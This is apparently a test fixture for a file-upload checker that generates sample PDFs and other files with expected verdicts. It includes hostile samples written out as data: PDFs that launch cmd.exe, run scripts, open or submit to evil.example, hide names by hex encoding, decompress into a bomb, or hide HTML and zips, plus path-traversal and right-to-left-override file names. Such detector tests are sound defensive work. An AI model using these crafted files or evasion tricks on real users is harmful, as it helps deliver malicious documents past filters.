import { deflateSync } from 'node:zlib'
import { rawZip } from '../../rosters/rawXlsx.ts'
import { offices } from './offices.ts'
import { page, script, type Row, type Sample } from './sample.ts'

/** A PDF of one page; `catalog` stands in its root, `objects` beside it. */
export function pdfOf(catalog = '', objects: readonly (string | Buffer)[] = []): Buffer {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ...objects,
  ]
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')]
  const places: number[] = []
  for (const [index, object] of all.entries()) {
    places.push(parts.reduce((sum, part) => sum + part.length, 0))
    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'))
  }
  const start = parts.reduce((sum, part) => sum + part.length, 0)
  const lines = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`)
  const count = all.length + 1
  parts.push(
    Buffer.from(
      `xref\n0 ${count}\n0000000000 65535 f \n${lines.join('')}trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}

/** Objects packed into a stream. */
function packed(inside: string, words = '/Type /ObjStm /N 1 /First 4', filter = '/FlateDecode') {
  const data = deflateSync(Buffer.from(`4 0 ${inside}`))
  const head = Buffer.from(`<< ${words} /Filter ${filter} /Length ${data.length} >>\nstream\n`)
  return Buffer.concat([head, data, Buffer.from('\nendstream')])
}

/** The words of a stream of two objects, whose list takes nine bytes. */
const two = '/Type /ObjStm /N 2 /First 9'

const bombStream = (): Buffer => {
  const data = deflateSync(Buffer.concat([Buffer.from('4 0 '), Buffer.alloc(60_000_000, 32)]))
  const head = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`
  return Buffer.concat([Buffer.from(head), data, Buffer.from('\nendstream')])
}

function pdfs(): Row[] {
  const launch = '<< /S /Launch /F (cmd.exe) >>'
  const zip = rawZip([{ name: 'evil.html', content: page }])
  return [
    ['a plain PDF', '证明.pdf', pdfOf(), 'kept'],
    ['a PDF that opens at a page', 'a.pdf', pdfOf('/OpenAction [3 0 R /Fit]'), 'kept'],
    [
      'a PDF that opens at a page by reference',
      'a.pdf',
      pdfOf('/OpenAction 4 0 R', ['<< /S /GoTo /D [3 0 R /Fit] >>']),
      'kept',
    ],
    [
      'a PDF with a link on its page',
      'a.pdf',
      pdfOf('', ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.gov.cn/) >> >>']),
      'kept',
    ],
    ['a PDF with packed objects', 'a.pdf', pdfOf('', [packed('<< /Title (A) >>')]), 'kept'],
    [
      'a PDF that opens at a page, with a link among its packed objects',
      'a.pdf',
      pdfOf('/OpenAction 4 0 R', [
        packed('5 33 << /S /GoTo /D [3 0 R /Fit] >> << /S /URI /URI (https://www.gov.cn/) >>', two),
      ]),
      'kept',
    ],
    [
      'a PDF that opens an address from packed objects',
      'a.pdf',
      pdfOf('/OpenAction 5 0 R', [
        packed(
          '5 33 << /S /GoTo /D [3 0 R /Fit] >> << /S /URI /URI (https://evil.example/) >>',
          two,
        ),
      ]),
      'files.activePdf',
    ],
    [
      'a PDF with a script',
      'a.pdf',
      pdfOf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
      'files.activePdf',
    ],
    [
      'a PDF with a script in its names',
      'a.pdf',
      pdfOf('/Names << /JavaScript 4 0 R >>'),
      'files.activePdf',
    ],
    [
      'a PDF with a script spelled by numbers',
      'a.pdf',
      pdfOf('/OpenAction << /S /J#61v#61Script /J#53 (app.alert(1)) >>'),
      'files.activePdf',
    ],
    [
      'a PDF that starts a program',
      'a.pdf',
      pdfOf('/OpenAction 4 0 R', [launch]),
      'files.activePdf',
    ],
    [
      'a PDF that starts a program from packed objects',
      'a.pdf',
      pdfOf('/OpenAction 4 0 R', [packed(launch)]),
      'files.activePdf',
    ],
    [
      'the same without saying that objects are packed',
      'a.pdf',
      pdfOf('/OpenAction 4 0 R', [packed(launch, '')]),
      'files.activePdf',
    ],
    [
      'the same with the name spelled by numbers',
      'a.pdf',
      pdfOf('/OpenAction 4 0 R', [packed(launch, '/Type /Obj#53tm /N 1 /First 4')]),
      'files.activePdf',
    ],
    [
      'objects packed twice over',
      'a.pdf',
      pdfOf('', [packed(launch, '/Type /ObjStm /N 1 /First 4', '[/ASCIIHexDecode /FlateDecode]')]),
      'files.opaquePdf',
    ],
    [
      'objects packed with a predictor',
      'a.pdf',
      pdfOf('', [packed(launch, '/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 >>')]),
      'files.opaquePdf',
    ],
    [
      'a PDF with a file in it',
      'a.pdf',
      pdfOf('/Names << /EmbeddedFiles 4 0 R >>'),
      'files.activePdf',
    ],
    [
      'a PDF that opens an address',
      'a.pdf',
      pdfOf('/OpenAction << /S /URI /URI (https://evil.example/) >>'),
      'files.activePdf',
    ],
    [
      'a PDF that opens an address by reference',
      'a.pdf',
      pdfOf('/OpenAction 4 0 R', ['<< /S /URI /URI (https://evil.example/) >>']),
      'files.activePdf',
    ],
    ['a PDF that acts when a page opens', 'a.pdf', pdfOf('/AA << /O 4 0 R >>'), 'files.activePdf'],
    [
      'a PDF that sends a form',
      'a.pdf',
      pdfOf('', ['<< /S /SubmitForm /F (https://evil.example/) >>']),
      'files.activePdf',
    ],
    ['a PDF with an XFA form', 'a.pdf', pdfOf('/AcroForm << /XFA 4 0 R >>'), 'files.activePdf'],
    [
      'a PDF closed by a password',
      'a.pdf',
      Buffer.from(
        pdfOf().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R'),
        'latin1',
      ),
      'files.encrypted',
    ],
    ['a PDF whose objects swell', 'a.pdf', pdfOf('', [bombStream()]), 'files.bomb'],
    [
      'a PDF with HTML behind it',
      'a.pdf',
      Buffer.concat([pdfOf(), Buffer.from(page)]),
      'files.mixed',
    ],
    ['a PDF with a zip behind it', 'a.pdf', Buffer.concat([pdfOf(), zip]), 'files.mixed'],
    ['a PDF with a zip inside it', 'a.pdf', pdfOf('', [zip]), 'files.mixed'],
    [
      'a PDF that begins as a page',
      'a.pdf',
      Buffer.from(pdfOf().toString('latin1').replace('\n', `\n%${page}\n`), 'latin1'),
      'files.mixed',
    ],
    [
      'a PDF behind a page',
      'a.pdf',
      Buffer.concat([Buffer.from(page), pdfOf()]),
      'files.unknownType',
    ],
    ['a PDF without an end', 'a.pdf', pdfOf().subarray(0, 120), 'files.damaged'],
    [
      'a script with the head of a PDF',
      'a.pdf',
      Buffer.from(`%PDF-1.4\n${script}`),
      'files.damaged',
    ],
  ]
}

function others(): Row[] {
  const pdf = pdfOf()
  return [
    ['nothing', 'a.pdf', Buffer.alloc(0), 'files.empty'],
    ['a page', 'a.html', Buffer.from(page), 'files.unknownType'],
    ['a page named as a PDF', 'a.pdf', Buffer.from(page), 'files.unknownType'],
    ['a program', 'a.exe', Buffer.from('MZ\x90\0', 'latin1'), 'files.unknownType'],
    ['a program named as a photo', 'a.jpg', Buffer.from('MZ\x90\0', 'latin1'), 'files.unknownType'],
    ['text', 'a.txt', Buffer.from('说明'), 'files.unknownType'],
    ['rich text', 'a.rtf', Buffer.from('{\\rtf1\\ansi'), 'files.unknownType'],
    ['a web archive', 'a.mht', Buffer.from('MIME-Version: 1.0'), 'files.unknownType'],
    ['a shortcut', 'a.lnk', Buffer.from('L\0\0\0\x01\x14\x02\0', 'latin1'), 'files.unknownType'],
    ['a PDF named as a page', 'a.html', pdf, 'files.doubleName'],
    ['a PDF named as a program', '证明.pdf.exe', pdf, 'files.doubleName'],
    ['a program within the name', '证明.exe.pdf', pdf, 'files.doubleName'],
    ['a page within the name', '证明.html.pdf', pdf, 'files.doubleName'],
    ['a date within the name', '2026.3.5证明.pdf', pdf, 'kept'],
    ['a PDF named as a document', 'a.docx', pdf, 'files.wrongName'],
    ['a PDF without an ending', '证明', pdf, 'files.wrongName'],
    ['a name that climbs out', '../../a.pdf', pdf, 'files.hiddenName'],
    ['a name that climbs by backslashes', '..\\a.pdf', pdf, 'files.hiddenName'],
    ['a name with a stream', 'a.pdf:x.exe', pdf, 'files.hiddenName'],
    ['a name that reads backwards', '证明\u202efdp.exe', pdf, 'files.hiddenName'],
    ['a name with unseen letters', 'a\u200b.pdf', pdf, 'files.hiddenName'],
    ['a name with a line break', 'a\n.pdf', pdf, 'files.hiddenName'],
    [
      'more than 10 MB',
      'a.pdf',
      Buffer.concat([pdf, Buffer.alloc(10 * 1024 * 1024)]),
      'files.tooLarge',
    ],
  ]
}

/** Documents, and what pretends to be one. */
export function documentSamples(): Sample[] {
  return [...pdfs(), ...offices(), ...others()].map(([what, fileName, bytes, wanted]) => ({
    what,
    fileName,
    bytes,
    wanted,
  }))
}
